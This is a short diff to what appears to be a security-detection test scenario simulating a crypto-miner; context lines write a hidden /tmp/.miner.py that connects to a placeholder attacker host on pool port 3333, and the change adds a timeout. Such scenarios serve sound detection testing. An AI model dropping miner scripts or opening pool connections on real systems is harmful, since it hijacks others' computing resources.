@@ -2,6 +2,7 @@
 # technique: a crypto-miner: a busy core for 70 s and a pool connection
 # level: warning
 # quick: no
+# timeout: 100
 cat >/tmp/.miner.py <<X
 import socket, time
 s = socket.create_connection(("$ATK", 3333))
